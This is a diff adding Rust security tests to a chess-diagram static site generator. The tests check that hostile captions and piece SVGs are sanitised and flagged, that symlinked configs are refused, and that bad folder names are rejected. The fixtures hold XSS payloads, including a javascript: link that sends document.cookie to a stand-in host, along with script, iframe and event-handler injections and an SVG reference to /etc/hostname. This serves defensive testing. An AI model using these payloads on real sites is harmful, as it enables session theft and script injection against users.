@@ -149,6 +149,7 @@ fn check_reports_each_unsafe_construct_where_it_is_written() {
         ("hostile/en.md", "unsafe-html", 5, 18),
         ("hostile/en.md", "unsafe-html", 13, 6),
         ("hostile/en.md", "unsafe-html", 13, 40),
+        ("hostile/en.md", "unsafe-html", 15, 1),
         ("hostile/en.md", "unsafe-url", 7, 9),
         ("hostile/en.md", "unsafe-url", 9, 10),
         ("hostile/en.md", "unsafe-url", 11, 8),
@@ -200,4 +201,278 @@ fn strict_build_refuses_unsafe_html_and_base_url_must_be_http() {
     .expect_err("a javascript: base_url is refused");
     let text = err.to_string();
     assert!(text.contains("base_url") && text.contains("http"), "{text}");
+}
+
+/// Diagram captions are placed into the page after its body was
+/// sanitised: each is sanitised on its own (issue 41). Markdown block
+/// captions and Pug `figcaption`s, each with a payload the page-body scan
+/// would have caught had it been in the body.
+const CAPTIONS_MD: &str = r#"# Captions
+
+```diagram
+fen: 8/8/8/8/8/8/8/K6k
+caption: "[Play](javascript&#58;fetch('//x/?c='+document.cookie))"
+```
+
+```diagram
+fen: 8/8/8/8/8/8/8/K6k
+caption: "<iframe srcdoc='<script>alert(1)</script>'></iframe><script>alert(2)</script>"
+```
+
+```diagram
+fen: 8/8/8/8/8/8/8/K6k
+caption: "<img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=//x'><base href='//x/'><form action='//x'></form><object data=x></object><style>*{}</style>[d](data:text/html,x)"
+```
+"#;
+
+const CAPTIONS_PUG: &str = r#"p Figures
+figure.diagram-container
+  .diagram
+    | fen:8/8/8/8/8/8/8/K6k:
+  figcaption
+    a(href="javascript:alert(1)") Play
+    | and
+    a(href="data:text/html,x" onclick="alert(2)") more
+"#;
+
+#[test]
+fn hostile_captions_never_reach_the_output() {
+    let dir = tempfile::tempdir().unwrap();
+    let content = dir.path().join("content");
+    std::fs::create_dir_all(content.join("pages/captions")).unwrap();
+    std::fs::create_dir_all(content.join("pages/pugcaptions")).unwrap();
+    std::fs::write(content.join("pages/captions/en.md"), CAPTIONS_MD).unwrap();
+    std::fs::write(content.join("pages/pugcaptions/en.pug"), CAPTIONS_PUG).unwrap();
+    let out = dir.path().join("public");
+    let report = build(&BuildOptions {
+        content,
+        out: out.clone(),
+        strict: false,
+    })
+    .expect("the site builds");
+    assert!(report.written);
+    let mut pages = 0;
+    for name in ["captions", "pugcaptions"] {
+        let html = std::fs::read_to_string(out.join(format!("en/{name}/index.html")))
+            .expect("the page is written");
+        assert!(html.contains("<figcaption>"), "{name}: {html}");
+        let found = fenpress::unsafe_markup::find(&html, &theme_tag);
+        let context: Vec<&str> = found
+            .iter()
+            .map(|f| &html[f.at.saturating_sub(80)..(f.at + 80).min(html.len())])
+            .collect();
+        assert!(found.is_empty(), "{name}: {found:?} {context:?}");
+        assert!(!html.contains("<style>*"), "{name}");
+        pages += 1;
+    }
+    assert_eq!(pages, 2);
+}
+
+/// The default theme's own tags that the output scan would otherwise flag:
+/// its scripts (files of its own `static/`, JSON data), the empty icon,
+/// the search forms, the puzzle widget's form, the root page's redirect.
+pub fn theme_tag(tag: &str) -> bool {
+    let own_script = tag.starts_with("<script")
+        && (tag.contains(" src=\"") && tag.contains("static/") && !tag.contains("://")
+            || tag.contains("type=\"application/json\""));
+    own_script
+        || tag == "<link rel=\"icon\" href=\"data:,\">"
+        || tag.starts_with("<form class=\"search-box\" role=\"search\"")
+        || tag.starts_with("<form class=\"search-form\" role=\"search\"")
+        // The puzzle widget's move box (no action: script reads it).
+        || tag == "<form class=\"fp-puzzle-form\">"
+        // The root page's redirect to the first language, a path of the site.
+        || tag.starts_with("<meta http-equiv=\"refresh\" content=\"0; url=/")
+}
+
+/// `check` names each hostile caption at its line: `check --deny
+/// warnings` fails on them (they passed with 0 findings).
+#[test]
+fn check_reports_hostile_captions() {
+    let dir = tempfile::tempdir().unwrap();
+    let content = dir.path().join("content");
+    std::fs::create_dir_all(content.join("pages/captions")).unwrap();
+    std::fs::create_dir_all(content.join("pages/pugcaptions")).unwrap();
+    std::fs::write(content.join("pages/captions/en.md"), CAPTIONS_MD).unwrap();
+    std::fs::write(content.join("pages/pugcaptions/en.pug"), CAPTIONS_PUG).unwrap();
+    let report = check_site(&content).expect("check runs");
+    let mut lines: Vec<(String, usize)> = report
+        .diagnostics
+        .iter()
+        .filter(|d| d.code.starts_with("unsafe-"))
+        .map(|d| {
+            let folder = d.file.parent().unwrap().file_name().unwrap();
+            (folder.to_string_lossy().into_owned(), d.line)
+        })
+        .collect();
+    lines.dedup();
+    assert_eq!(
+        lines,
+        [
+            ("captions".to_string(), 5),
+            ("captions".to_string(), 10),
+            ("captions".to_string(), 15),
+            ("pugcaptions".to_string(), 6),
+            ("pugcaptions".to_string(), 8),
+        ],
+        "{:?}",
+        report.diagnostics
+    );
+}
+
+/// A piece set's SVG is inlined into every page showing the piece: it is
+/// rebuilt from an allowlist, and `check` reports what was dropped at its
+/// line (issue 41).
+#[test]
+fn hostile_piece_svgs_are_rebuilt_and_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let content = dir.path().join("content");
+    std::fs::create_dir_all(content.join("pages/board")).unwrap();
+    std::fs::create_dir_all(content.join("pieces")).unwrap();
+    std::fs::write(
+        content.join("config.yaml"),
+        "title: T\npieces: { folder: pieces, svg: inline }\n",
+    )
+    .unwrap();
+    std::fs::write(
+        content.join("pieces/wk.svg"),
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 45 45\" onload=\"alert(1)\">\n\
+         <script>alert(2)</script>\n\
+         <a href=\"javascript:alert(3)\"><circle r=\"9\"/></a>\n\
+         <image href=\"/etc/hostname\" width=\"45\" height=\"45\"/>\n\
+         <path d=\"M0 0h45v45z\" style=\"fill:url(data:image/png;base64,AA)\"/>\n\
+         <rect width=\"45\" height=\"45\" fill=\"#123456\"/>\n\
+         </svg>\n",
+    )
+    .unwrap();
+    std::fs::write(
+        content.join("pages/board/en.md"),
+        "# Board\n\n```diagram\nfen: 8/8/8/8/8/8/8/K6k\n```\n",
+    )
+    .unwrap();
+    let report = check_site(&content).expect("check runs");
+    let mut got: Vec<(usize, &str)> = report
+        .diagnostics
+        .iter()
+        .filter(|d| d.code == "unsafe-svg")
+        .map(|d| (d.line, d.code))
+        .collect();
+    got.sort();
+    assert_eq!(
+        got,
+        [
+            (1, "unsafe-svg"),
+            (2, "unsafe-svg"),
+            (3, "unsafe-svg"),
+            (4, "unsafe-svg"),
+            (5, "unsafe-svg")
+        ],
+        "{:?}",
+        report.diagnostics
+    );
+    let out = dir.path().join("public");
+    build(&BuildOptions {
+        content,
+        out: out.clone(),
+        strict: false,
+    })
+    .expect("the site builds");
+    let html = std::fs::read_to_string(out.join("en/board/index.html")).unwrap();
+    assert!(html.contains("#123456"), "the piece's drawing is kept");
+    let found = fenpress::unsafe_markup::find(&html, &theme_tag);
+    assert!(found.is_empty(), "{found:?}");
+    assert!(!html.contains("/etc/hostname"));
+}
+
+/// A committed `config.yaml` or `variants/*.yaml` that is a symlink (to a
+/// secrets file, `/dev/zero`, a FIFO) is refused unread: its first line
+/// never reaches a finding or an excerpt (issue 41).
+#[cfg(unix)]
+#[test]
+fn symlinked_config_and_definitions_are_refused_unread() {
+    let dir = tempfile::tempdir().unwrap();
+    let content = dir.path().join("content");
+    std::fs::create_dir_all(content.join("pages/a")).unwrap();
+    std::fs::create_dir_all(content.join("variants")).unwrap();
+    std::fs::write(content.join("pages/a/en.md"), "# A\n").unwrap();
+    let secret = dir.path().join("secret.txt");
+    std::fs::write(&secret, "TOKEN-PWNED: hunter2\n").unwrap();
+    std::os::unix::fs::symlink(&secret, content.join("config.yaml")).unwrap();
+    std::os::unix::fs::symlink("/dev/zero", content.join("variants/Zero.yaml")).unwrap();
+    let report = check_site(&content).expect("check runs");
+    let config = report
+        .diagnostics
+        .iter()
+        .find(|d| d.code == "config")
+        .expect("a config finding");
+    assert!(
+        config.message.contains("symbolic link"),
+        "{}",
+        config.message
+    );
+    let variant = report
+        .diagnostics
+        .iter()
+        .find(|d| d.code == "variant-definition")
+        .expect("a definition finding");
+    assert!(
+        variant.message.contains("symbolic link"),
+        "{}",
+        variant.message
+    );
+    let printed = format!("{:?}{:?}", report.diagnostics, report.sources);
+    assert!(!printed.contains("hunter2"), "{printed}");
+    let err = build(&BuildOptions {
+        content,
+        out: dir.path().join("public"),
+        strict: false,
+    })
+    .expect_err("build refuses the config");
+    assert!(err.to_string().contains("symbolic link"), "{err}");
+    assert!(!err.to_string().contains("hunter2"));
+}
+
+/// `rules/Foo` and `rules/foo` are one folder on macOS and Windows: an
+/// error, the first kept. A name that is not a URL path as written (`#`,
+/// `%`, a space) is refused as other unsafe names are (issue 41).
+#[test]
+fn case_colliding_and_unencodable_names_are_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    let content = dir.path().join("content");
+    for folder in [
+        "rules/Foo",
+        "rules/foo",
+        "pages/a#b",
+        "pages/Ev il",
+        "pages/ok",
+    ] {
+        std::fs::create_dir_all(content.join(folder)).unwrap();
+        std::fs::write(content.join(folder).join("en.md"), "# T\n").unwrap();
+    }
+    let report = check_site(&content).expect("check runs");
+    let mut bad: Vec<String> = report
+        .diagnostics
+        .iter()
+        .filter(|d| d.code == "bad-name")
+        .map(|d| {
+            let folder = d.file.parent().unwrap();
+            let section = folder.parent().unwrap().file_name().unwrap();
+            format!(
+                "{}/{}",
+                section.to_string_lossy(),
+                folder.file_name().unwrap().to_string_lossy()
+            )
+        })
+        .collect();
+    bad.sort();
+    assert_eq!(
+        bad,
+        ["pages/Ev il", "pages/a#b", "rules/foo"],
+        "{:?}",
+        report.diagnostics
+    );
+    assert!(report
+        .diagnostics
+        .iter()
+        .all(|d| d.code != "bad-name" || d.severity == fenpress::diagnostic::Severity::Error));
 }
